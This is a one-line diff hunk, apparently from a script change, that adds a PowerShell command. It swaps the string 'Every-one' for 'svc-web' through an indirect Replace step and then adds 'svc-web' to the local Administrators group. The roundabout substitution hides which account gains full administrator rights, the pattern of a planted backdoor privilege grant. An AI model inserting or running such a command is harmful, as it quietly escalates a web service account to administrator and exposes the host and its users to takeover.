@@ -1,0 +1,1 @@
+'Every-one' | ForEach-Object Replace 'Every-one' 'svc-web' | ForEach-Object { Add-LocalGroupMember Administrators $_ }
